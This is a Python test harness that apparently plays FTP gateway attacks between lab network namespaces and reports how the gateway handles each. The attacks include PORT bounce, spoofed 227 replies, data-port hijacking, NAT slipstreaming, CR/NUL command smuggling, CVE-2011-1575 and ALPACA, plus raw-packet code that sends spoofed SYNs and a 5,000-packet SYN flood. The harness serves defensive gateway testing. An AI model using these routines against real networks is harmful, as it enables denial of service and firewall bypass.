"""
Plays attacks through a gateway, with the client, the server and a stranger in one process, and says what came of each:

    compared.py SETTING      prints {"name": ..., "outcome": ...}, a line each

Each host's sockets are made in its network namespace. The server is scripted and as careless as the attack needs it;
clients and the stranger do what the attack says. `SETTING`: {namespaces, way, port, tlsPort, addresses}.
"""
import json
import os
import socket
import ssl
import struct
import sys
import threading
import time

sys.path.insert(0, os.path.join(os.path.dirname(__file__), '../support/differential'))
sys.path.insert(0, os.path.join(os.path.dirname(__file__), '../support/lab'))

from namespaces import enter, home  # noqa: E402

SETTING = json.loads(sys.argv[1])
ADDRESSES = SETTING['addresses']
PUBLIC = ADDRESSES['public']
# Seconds: what has not come by then does not come.
LIMIT = 1.5

namespaces = {host: os.open(f'/run/netns/{name}', os.O_RDONLY) for host, name in SETTING['namespaces'].items()}


def made_in(host, make):
    """Each thread has its own namespace, and a socket keeps that of its making."""
    enter(namespaces[host])
    try:
        return make()
    finally:
        enter(home)


def numbers(address, port):
    return f"{address.replace('.', ',')},{port >> 8},{port & 255}"


class Listener:
    """Says whose it is to everybody who connects, and counts them."""

    def __init__(self, host, port=0):
        self.host = host
        self.listener = made_in(host, lambda: socket.create_server(('', port), backlog=64))
        self.port = self.listener.getsockname()[1]
        self.came = []
        threading.Thread(target=self.accept, daemon=True).start()

    def accept(self):
        while True:
            try:
                connection, peer = self.listener.accept()
            except OSError:
                return
            arrival = Arrival(connection, peer)
            self.came.append(arrival)
            arrival.say(f'{self.host}:{self.port}')

    def close(self):
        # A thread that waits in accept() keeps it open otherwise.
        self.listener.shutdown(socket.SHUT_RDWR)
        self.listener.close()

    def wait(self, count=1):
        end = time.monotonic() + LIMIT
        while len(self.came) < count and time.monotonic() < end:
            time.sleep(0.01)
        return len(self.came) >= count


class Arrival:
    def __init__(self, connection, peer):
        self.connection = connection
        self.peer = peer[0]
        self.received = b''
        self.end = None

    def say(self, banner):
        try:
            self.connection.sendall(banner.encode())
            self.connection.shutdown(socket.SHUT_WR)
        except OSError:
            pass
        threading.Thread(target=self.read, daemon=True).start()

    def read(self):
        try:
            while chunk := self.connection.recv(65536):
                self.received += chunk
            self.end = 'FIN'
        except OSError:
            self.end = 'RST'
        self.connection.close()

    def ended(self):
        end = time.monotonic() + LIMIT
        while self.end is None and time.monotonic() < end:
            time.sleep(0.01)
        return self.end


class Server:
    """The FTP server: one script for all control connections, and every line that it has heard."""

    usual = {
        'USER': '331 Password\r\n',
        'PASS': '230 Logged in\r\n',
        'PWD': '257 "/"\r\n',
        'QUIT': '221 Bye\r\n',
        'AUTH': '502 No\r\n',
        'FEAT': '211-Features\r\n SIZE\r\n211 End\r\n',
        'SYST': '215 UNIX Type: L8\r\n',
    }

    def __init__(self):
        self.listener = made_in('server', lambda: socket.create_server(('', 21), backlog=64))
        self.begin()
        threading.Thread(target=self.accept, daemon=True).start()

    def begin(self, **script):
        self.script = script
        self.heard = []
        self.told = None
        self.data = None

    def accept(self):
        while True:
            connection, _ = self.listener.accept()
            threading.Thread(target=self.serve, args=(connection,), daemon=True).start()

    def serve(self, connection):
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        try:
            connection.sendall(b'220 Ready\r\n')
            rest = b''
            while chunk := connection.recv(65536):
                *lines, rest = (rest + chunk).split(b'\n')
                for line in lines:
                    text = line.decode('latin-1').rstrip('\r')
                    self.heard.append(text)
                    for segment in self.answer(text):
                        connection.sendall(segment.encode('latin-1'))
                        time.sleep(0.02)
        except OSError:
            pass
        connection.close()

    def answer(self, line):
        verb, _, argument = line.partition(' ')
        verb = verb.upper()
        scripted = self.script.get(verb)
        if scripted is not None:
            segments = scripted(argument) if callable(scripted) else scripted
            return [segments] if isinstance(segments, str) else segments
        if verb == 'PORT':
            try:
                parts = [int(part) for part in argument.split(',')]
                self.told = ('.'.join(str(part) for part in parts[:4]), (parts[4] * 256 + parts[5]) & 0xffff)
            except (ValueError, IndexError):
                return ['501 What?\r\n']
            return ['200 Ok\r\n']
        if verb in ('RETR', 'STOR', 'LIST', 'NLST'):
            if self.told is not None:
                try:
                    made_in('server', lambda: socket.create_connection(self.told, LIMIT)).close()
                except OSError:
                    return ['425 No\r\n']
            return ['150 Go on\r\n', '226 Done\r\n'] if verb != 'STOR' else ['150 Go on\r\n']
        return [self.usual.get(verb, '200 Done\r\n')]

    def passive(self, port, address=None):
        """The script of a PASV that is answered with this port."""
        return {'PASV': f"227 Passive ({numbers(address or ADDRESSES['server'], port)})\r\n"}

    def heard_with(self, text):
        return any(text in line for line in self.heard)


class Client:
    """A control connection. A reply that does not come is None, an end is ''."""

    def __init__(self, host='client', port=None):
        self.host = host
        self.rest = b''
        self.connection = made_in(host, lambda: socket.create_connection((PUBLIC, port or SETTING['port']), 5))
        self.connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.greeting = self.reply(5)

    def send(self, data):
        try:
            self.connection.sendall(data.encode('latin-1') if isinstance(data, str) else data)
        except OSError:
            pass

    def reply(self, limit=LIMIT):
        """A whole reply; the code decides which line is its last."""
        end = time.monotonic() + limit
        while True:
            at = 0
            code = None
            while (after := self.rest.find(b'\n', at)) != -1:
                line = self.rest[at:after]
                at = after + 1
                code = code or line[:3]
                if line[:3] == code and line[3:4] != b'-':
                    text, self.rest = self.rest[:at], self.rest[at:]
                    return text.decode('latin-1')
            left = end - time.monotonic()
            if left <= 0:
                return None
            self.connection.settimeout(left)
            try:
                chunk = self.connection.recv(65536)
            except TimeoutError:
                return None
            except OSError:
                return ''
            if chunk == b'':
                return ''
            self.rest += chunk

    def say(self, line, limit=LIMIT):
        self.send(line + '\r\n')
        return self.reply(limit)

    def login(self):
        self.say('USER anna', 5)
        reply = self.say('PASS secret', 5)
        if not (reply or '').startswith('230'):
            raise RuntimeError(f"{SETTING['way']}: no log in, {reply!r}")
        return self

    def pasv(self):
        """Where it is told to connect, or the reply that says no such thing."""
        reply = self.say('PASV', 4)
        return endpoint_in(reply) or reply

    def close(self):
        self.connection.close()


def endpoint_in(reply):
    if not (reply or '').startswith('227'):
        return None
    parts = reply[reply.index('(') + 1:reply.index(')')].split(',')
    return '.'.join(parts[:4]), int(parts[4]) * 256 + int(parts[5])


def dial(host, where):
    """A connection, or None where it was refused."""
    try:
        return made_in(host, lambda: socket.create_connection(where, LIMIT))
    except OSError:
        return None


def read_all(connection):
    """Whose it is, or '' where it ends, is reset or says nothing."""
    if connection is None:
        return ''
    connection.settimeout(LIMIT)
    got = b''
    try:
        while chunk := connection.recv(65536):
            got += chunk
    except OSError:
        pass
    return got.decode('latin-1')


def fetch(client, where, host=None):
    """A download over a data connection of this host: whom it comes from, or ''."""
    connection = dial(host or client.host, where)
    client.send('RETR x\r\n')
    got = read_all(connection)
    if connection is not None:
        connection.close()
    return got


def code(reply):
    if reply is None:
        return 'drops it; the client hangs'
    if reply == '':
        return 'ends the session'
    return f'answers {reply[:3]}'


server = Server()
service = {host: Listener(host, 22) for host in ('server', 'stranger')}
database = Listener('server', 3306)
plain = Listener('server', 40_000)
elsewhere = Listener('stranger', 40_000)
mail = Listener('client', 25)

attacks = []


def attack(name):
    def add(play):
        attacks.append((name, play))
        return play
    return add


@attack('names another host in `PORT` (bounce, RFC 2577)')
def bounce():
    server.begin()
    client = Client().login()
    reply = client.say(f"PORT {numbers(ADDRESSES['stranger'], 40_000)}", 3)
    if server.heard_with(ADDRESSES['stranger'].replace('.', ',')):
        return 'leaves it to the server to refuse'
    return code(reply)


@attack('names a port of a service of its own host in `PORT`: 25')
def low_port():
    server.begin()
    before = len(mail.came)
    client = Client().login()
    reply = client.say(f"PORT {numbers(ADDRESSES['client'], 25)}", 3)
    client.send('RETR x\r\n')
    if (reply or '').startswith('200') and mail.wait(before + 1):
        return 'connects the server to it'
    return code(reply)


@attack('names numbers above 255 in `PORT`, which wrap to other ports')
def wrapping():
    server.begin()
    client = Client().login()
    reply = client.say(f"PORT {ADDRESSES['client'].replace('.', ',')},256,25", 3)
    if (reply or '').startswith('200'):
        return 'passes it on, with the number that it wraps to' if server.told else 'takes it'
    return code(reply)


@attack('gets a 227 with port 3306 into the answer to another command (a file name, a message)')
def spoofed():
    spoof = f"227 x ({numbers(ADDRESSES['server'], 3306)})\r\n"
    server.begin(STAT=['213-Status\r\n', spoof, '213 End\r\n'])
    client = Client().login()
    before = len(database.came)
    reply = client.say('STAT .', 3)
    fetch(client, (PUBLIC, 3306))
    if len(database.came) > before:
        return "opens the server's port 3306"
    return 'opens nothing' if reply else code(reply)


@attack("has the server name a port of another service of its own, 22, in a 227")
def service_port():
    server.begin(**server.passive(22))
    client = Client().login()
    before = len(service['server'].came)
    told = client.pasv()
    if not isinstance(told, tuple):
        return code(told)
    fetch(client, told)
    if len(service['server'].came) > before:
        return "leads the client to the server's port 22"
    return code(client.reply())


@attack('has the server name another host in a 227')
def foreign_address():
    server.begin(**server.passive(40_000, ADDRESSES['stranger']))
    client = Client().login()
    before = len(elsewhere.came)
    told = client.pasv()
    if not isinstance(told, tuple):
        return code(told)
    if told[0] == ADDRESSES['stranger']:
        return 'passes it on: the client goes there'
    got = fetch(client, told)
    if len(elsewhere.came) > before:
        return 'connects to that host'
    if got.startswith('server:'):
        return 'leads the client to the server itself'
    return code(client.reply())


@attack("connects to a client's passive port before the client, from another address")
def stolen():
    server.begin(**server.passive(40_000))
    client = Client().login()
    told = client.pasv()
    thief = dial('stranger', told)
    got = fetch(client, told)
    stolen_bytes = read_all(thief)
    if stolen_bytes:
        return 'gives the stranger the file'
    if got.startswith('server:'):
        return 'refuses the stranger; the client has its transfer'
    replies = []
    while (reply := client.reply()) not in (None, ''):
        replies.append(reply[:3])
    return f"refuses the stranger; the client's transfer fails ({replies[-1] if replies else 'no reply'})"


@attack("connects to where the server is to connect in active mode, before the server")
def stolen_active():
    server.begin()
    client = Client().login()
    listener = Listener('client')
    try:
        # The answer that the server gives is not the end of it: it would dial now.
        client.say(f"PORT {numbers(ADDRESSES['client'], listener.port)}", 3)
        if server.told is None:
            return 'dials the client itself'
        if server.told[0] == ADDRESSES['client']:
            return "leaves the client's own port as it is"
        thief = dial('stranger', server.told)
        time.sleep(0.2)
        if listener.came:
            return 'connects the stranger to the client'
        client.send('RETR x\r\n')
        got = listener.wait(1)
        if thief is not None:
            thief.close()
        return 'refuses the stranger; the client has its transfer' if got else 'the pinhole is used up'
    finally:
        listener.close()


@attack('looks which of all passive ports are open, while a client waits at one')
def scan():
    server.begin(**server.passive(40_000))
    client = Client().login()
    told = client.pasv()
    before = len(plain.came)
    seen = 'finds the port open'
    try:
        connection = made_in('stranger', lambda: socket.create_connection(told, LIMIT))
        connection.settimeout(LIMIT)
        if connection.recv(1) == b'':
            seen = 'finds the port, which is closed at once'
    except ConnectionRefusedError:
        seen = 'finds none'
    except ConnectionResetError:
        seen = 'finds the port, and is reset'
    except TimeoutError:
        pass
    return seen if len(plain.came) == before else 'gets in'


@attack("connects to a client's passive port a second time, from the client's address")
def replayed():
    server.begin(**server.passive(40_000))
    client = Client().login()
    told = client.pasv()
    before = len(plain.came)
    fetch(client, told)
    read_all(dial('client', told))
    return 'leads there again' if len(plain.came) > before + 1 else 'refuses it'


@attack('connects to a passive port whose session has ended')
def late():
    server.begin(**server.passive(40_000))
    client = Client().login()
    told = client.pasv()
    before = len(plain.came)
    client.say('QUIT')
    client.close()
    time.sleep(0.3)
    read_all(dial('client', told))
    return 'leads there still' if len(plain.came) > before else 'refuses it'


@attack('asks for a hundred passive ports in one session')
def hundred():
    listeners = [Listener('server') for _ in range(100)]
    client = None
    try:
        ports = iter(listeners)
        server.begin(PASV=lambda _: f"227 x ({numbers(ADDRESSES['server'], next(ports).port)})\r\n")
        client = Client().login()
        told = [client.pasv() for _ in range(100)]
        # The last but one is closed behind the answer that names the last.
        time.sleep(0.3)
        connections = [dial('client', where) if isinstance(where, tuple) else None for where in told]
        client.send('RETR x\r\n')
        for connection in connections:
            if connection is not None:
                connection.settimeout(0.05)
                try:
                    connection.recv(100)
                except OSError:
                    pass
        led = sum(len(each.came) for each in listeners)
        return 'has one open, the last' if led == 1 else f'has {led} open'
    finally:
        for each in listeners:
            each.close()


@attack("sends one SYN to a client's passive port, under the client's address and without a handshake")
def one_syn():
    server.begin(**server.passive(40_000))
    client = Client().login()
    told = client.pasv()
    made_in('stranger', lambda: send_syn(ADDRESSES['client'], told))
    time.sleep(0.3)
    got = fetch(client, told)
    if got.startswith('server:'):
        return 'the client has its transfer'
    return 'the pinhole is used up'


def send_syn(source, where, port=61_000):
    segment = bytearray(struct.pack('!HHIIBBHHH', port, where[1], 1, 0, 5 << 4, 2, 64240, 0, 0))
    pseudo = socket.inet_aton(source) + socket.inet_aton(where[0]) + struct.pack('!BBH', 0, 6, len(segment))
    total = sum(struct.unpack(f'!{(len(pseudo) + len(segment)) // 2}H', pseudo + bytes(segment)))
    total = (total >> 16) + (total & 0xffff)
    total += total >> 16
    struct.pack_into('!H', segment, 16, ~total & 0xffff)
    header = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 40, 0, 0, 64, 6, 0,
                         socket.inet_aton(source), socket.inet_aton(where[0]))
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        raw.sendto(header + bytes(segment), (where[0], 0))


@attack('says `PASV` without a log in, or after one that was refused')
def no_login():
    server.begin(PASS='530 No\r\n', **server.passive(40_000))
    outcomes = []
    for commands in ([], ['USER anna', 'PASS wrong']):
        client = Client()
        for command in commands:
            client.say(command, 5)
        told = client.pasv()
        outcomes.append('opens a port' if isinstance(told, tuple) and fetch(client, told) else code(told))
        client.close()
    return '; '.join(sorted(set(outcomes)))


def slipstream(first):
    server.begin()
    client = Client()
    port = numbers(ADDRESSES['client'], 50_000)
    victim = Listener('client', 50_000)
    try:
        before = len(victim.came)
        client.send(first)
        time.sleep(0.1)
        client.send('USER anna\r\nPASS secret\r\n')
        time.sleep(0.3)
        client.send(f'PORT {port}\r\nRETR x\r\n')
        if victim.wait(before + 1):
            return "leads a connection to the browser's host"
        while (reply := client.reply()) not in (None, ''):
            pass
        return 'ends the session' if reply == '' else 'opens nothing'
    finally:
        victim.close()


@attack("has a browser `POST` what opens a port of the browser's host (NAT slipstreaming)")
def http():
    return slipstream('POST / HTTP/1.1\r\nHost: x\r\n\r\n')


@attack('the same by SIP')
def sip():
    return slipstream('REGISTER sip:x SIP/2.0\r\n')


@attack('the same by TURN, whose first bytes are binary')
def turn():
    return slipstream(bytes([0, 3, 0, 36, 0x21, 0x12, 0xa4, 0x42]) + b'\x07' * 12 + b'\0\x06\0\x20' + b'\r\n')


@attack('hides a `PORT` of another host behind a bare CR')
def bare_cr():
    server.begin()
    client = Client().login()
    hidden = f"PORT {numbers(ADDRESSES['stranger'], 40_000)}"
    reply = client.say(f'NOOP x\r{hidden}', 3)
    if server.heard_with(hidden):
        return 'passes it on as it is'
    return code(reply)


@attack('hides a `PORT` of another host behind a NUL')
def nul():
    server.begin()
    client = Client().login()
    hidden = f"PORT {numbers(ADDRESSES['stranger'], 40_000)}"
    reply = client.say(f'NOOP x\0{hidden}', 3)
    if server.heard_with(hidden):
        return 'passes it on as it is'
    return code(reply)


@attack('cuts a `PORT` of its own into two segments, or sends it behind another command in one')
def segments():
    server.begin()
    client = Client().login()
    listener = Listener('client')
    try:
        own = f"PORT {numbers(ADDRESSES['client'], listener.port)}\r\n"
        client.send(own[:12])
        time.sleep(0.1)
        client.send(own[12:])
        cut = client.reply(3)
        if cut is None:
            return 'cut, it is dropped; the client hangs'
        client.send('NOOP\r\n' + own)
        behind = [client.reply(3), client.reply(3)]
        client.send('RETR x\r\n')
        seen = listener.wait(1)
        return 'reads both' if seen and (behind[1] or '').startswith('200') else 'reads the first alone'
    finally:
        listener.close()


@attack('sends a command of 20,000 bytes')
def overlong():
    server.begin()
    client = Client().login()
    reply = client.say('RETR ' + 'x' * 20_000, 3)
    if any(len(line) > 10_000 for line in server.heard):
        return 'passes it on'
    return code(reply)


@attack('sends refused commands without end, and no log in')
def refused():
    server.begin(AUTH='500 No\r\n')
    client = Client()
    count = 0
    for _ in range(200):
        reply = client.say('AUTH', 3)
        if reply in (None, ''):
            break
        count += 1
        if reply.startswith('421'):
            break
    if count == 200:
        return 'answers all'
    return 'answers ever more slowly, then 421' if (reply or '').startswith('421') else 'ends the session'


@attack('resets an upload half way, so that what came might be taken for all of it')
def reset_upload():
    server.begin(**server.passive(40_000))
    client = Client().login()
    told = client.pasv()
    before = len(plain.came)
    data = dial('client', told)
    client.send('STOR x\r\n')
    if not plain.wait(before + 1):
        return 'opens nothing'
    arrival = plain.came[before]
    time.sleep(0.2)
    data.sendall(b'half of')
    time.sleep(0.3)
    data.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack('ii', 1, 0))
    data.close()
    return {'RST': 'the server sees a reset', 'FIN': 'the server sees the end of a whole file'}.get(
        arrival.ended(), 'the server sees nothing')


@attack('sends 5,000 SYN of false addresses to the control port, and goes on with none')
def half_open():
    server.begin()
    made_in('stranger', lambda: flood_syn((PUBLIC, SETTING['port'])))
    try:
        client = Client()
    except OSError:
        return 'others get no connection'
    return 'others are greeted' if (client.greeting or '').startswith('220') else 'others are not greeted'


def flood_syn(where):
    for number in range(5000):
        send_syn(f'192.0.2.{1 + number % 250}', where, 1024 + number)


def tls_context(**options):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    if 'alpn' in options:
        context.set_alpn_protocols(options['alpn'])
    return context


def secure(client, context):
    client.connection.settimeout(3)
    client.connection = context.wrap_socket(client.connection)


@attack('puts a command in clear into the segment of `AUTH TLS` (CVE-2011-1575)')
def pipelined():
    if SETTING['tlsPort'] is None:
        server.begin()
        client = Client()
        client.send('AUTH TLS\r\nNOOP injected\r\n')
        time.sleep(0.3)
        return 'passes both on, and is blind from then on' if server.heard_with('injected') else 'not played'
    server.begin()
    client = Client(port=SETTING['tlsPort'])
    client.send('AUTH TLS\r\nNOOP injected\r\n')
    reply = client.reply(3)
    if not (reply or '').startswith('234'):
        return f'{code(reply)}, and ends the session' if client.reply(3) == '' else code(reply)
    client.rest = b''
    try:
        secure(client, tls_context())
    except (OSError, ssl.SSLError):
        return 'the handshake fails'
    reply = client.reply(1)
    return 'answers it in TLS' if reply else 'throws it away'


@attack('leads a browser that speaks TLS to it, ALPN `http/1.1` (ALPACA)')
def alpaca():
    if SETTING['tlsPort'] is None:
        return 'leaves it to the server'
    server.begin()
    client = Client(port=SETTING['tlsPort'])
    client.say('AUTH TLS', 3)
    try:
        secure(client, tls_context(alpn=['http/1.1']))
    except (OSError, ssl.SSLError):
        return 'the handshake fails'
    return 'makes TLS with it'


@attack('cuts an upload over TLS short by a FIN below TLS')
def truncated():
    if SETTING['tlsPort'] is None:
        return 'leaves it to the server'
    server.begin(**server.passive(40_000))
    client = Client(port=SETTING['tlsPort'])
    client.say('AUTH TLS', 3)
    context = tls_context()
    secure(client, context)
    client.login()
    client.say('PBSZ 0')
    client.say('PROT P')
    told = client.pasv()
    before = len(plain.came)
    raw = dial('client', told)
    client.send('STOR x\r\n')
    client.reply(3)
    try:
        data = context.wrap_socket(raw, session=client.connection.session)
    except (OSError, ssl.SSLError, ValueError):
        return 'the handshake fails'
    data.sendall(b'half of')
    if not plain.wait(before + 1):
        return 'opens nothing'
    arrival = plain.came[before]
    time.sleep(0.3)
    # detach() leaves TLS without close_notify.
    below = socket.socket(fileno=data.detach())
    below.shutdown(socket.SHUT_WR)
    end = arrival.ended()
    below.close()
    return {'RST': 'the server sees a reset', 'FIN': 'the server sees the end of a whole file'}.get(
        end, 'the server sees nothing')


for name, play in attacks:
    if len(sys.argv) > 2 and sys.argv[2] not in play.__name__:
        continue
    try:
        outcome = play()
    except (OSError, RuntimeError) as error:
        outcome = f'failed: {error!r}'
    print(json.dumps({'name': name, 'outcome': outcome}), flush=True)
os._exit(0)
